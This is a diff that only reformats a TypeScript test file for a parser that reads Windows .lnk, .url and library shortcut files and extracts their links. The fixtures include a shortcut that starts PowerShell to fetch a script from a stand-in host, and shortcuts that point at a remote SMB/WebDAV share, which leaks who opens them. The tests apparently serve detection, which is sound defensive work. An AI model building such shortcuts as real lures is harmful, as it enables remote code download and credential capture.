@@ -1,7 +1,8 @@
 import { part } from '../containers.fixture.ts';
 import { shortcut } from './shortcut.ts';
 
-const hrefs = async (content: string | Buffer) => (await shortcut.open(part(content))).links.map(({ href }) => href);
+const hrefs = async (content: string | Buffer) =>
+  (await shortcut.open(part(content))).links.map(({ href }) => href);
 
 /** A Windows shortcut with a share for its target, or a relative path, and arguments. */
 function windowsLink(given: { share?: string; relative?: string; arguments?: string }): Buffer {
@@ -10,7 +11,10 @@ function windowsLink(given: { share?: string; relative?: string; arguments?: str
   header.writeUInt32LE(0x00021401, 4);
   const texts = [given.relative, given.arguments].filter((one) => one !== undefined);
   header.writeUInt32LE(
-    128 | (given.share === undefined ? 0 : 2) | (given.relative === undefined ? 0 : 8) | (given.arguments === undefined ? 0 : 32),
+    128 |
+      (given.share === undefined ? 0 : 2) |
+      (given.relative === undefined ? 0 : 8) |
+      (given.arguments === undefined ? 0 : 32),
     20,
   );
   const strings = texts.map((text) => {
@@ -39,7 +43,9 @@ describe('a shortcut', () => {
     [{ name: 'a.txt' }, '[InternetShortcut]\r\nURL=https://a.example/', true],
     [{ name: 'a.xml' }, '<?xml version="1.0"?><libraryDescription>', true],
     [{ name: 'a.xml' }, '<?xml version="1.0"?><library>', false],
-  ])('is %j that begins with %j: %s', (over, content, is) => expect(shortcut.recognises(part(content, over))).toBe(is));
+  ])('is %j that begins with %j: %s', (over, content, is) =>
+    expect(shortcut.recognises(part(content, over))).toBe(is),
+  );
 
   it('leads to a page', async () => {
     expect(await hrefs('[InternetShortcut]\r\nURL=https://a.example/x\r\n')).toEqual(['https://a.example/x']);
@@ -47,12 +53,18 @@ describe('a shortcut', () => {
 
   it('opens a folder of another machine, which is told who opens it', async () => {
     const library = await shortcut.open(
-      part('<libraryDescription><simpleLocation><url>\\\\smb.example\\s</url></simpleLocation></libraryDescription>'),
+      part(
+        '<libraryDescription><simpleLocation><url>\\\\smb.example\\s</url></simpleLocation></libraryDescription>',
+      ),
     );
     expect(library.links.map(({ href }) => href)).toEqual(['file://smb.example/s']);
     expect(library.flags).toEqual(['shortcut', 'remote_folder']);
-    expect(await hrefs('[InternetShortcut]\r\nURL=file://smb.example/s/a.exe')).toEqual(['file://smb.example/s/a.exe']);
-    expect(await hrefs('IconFile=\\\\smb.example@SSL\\DavWWWRoot\\i.ico')).toEqual(['file://smb.example/DavWWWRoot/i.ico']);
+    expect(await hrefs('[InternetShortcut]\r\nURL=file://smb.example/s/a.exe')).toEqual([
+      'file://smb.example/s/a.exe',
+    ]);
+    expect(await hrefs('IconFile=\\\\smb.example@SSL\\DavWWWRoot\\i.ico')).toEqual([
+      'file://smb.example/DavWWWRoot/i.ico',
+    ]);
   });
 
   it('may lead to a file of this machine', async () => {
@@ -61,7 +73,10 @@ describe('a shortcut', () => {
   });
 
   it('of Windows says what it starts', async () => {
-    const bytes = windowsLink({ relative: '..\\powershell.exe', arguments: '-c iwr https://a.example/p.ps1' });
+    const bytes = windowsLink({
+      relative: '..\\powershell.exe',
+      arguments: '-c iwr https://a.example/p.ps1',
+    });
     const { text, links } = await shortcut.open(part(bytes));
     expect(text).toBe('..\\powershell.exe\n-c iwr https://a.example/p.ps1');
     expect(links.map(({ href }) => href)).toEqual(['https://a.example/p.ps1']);
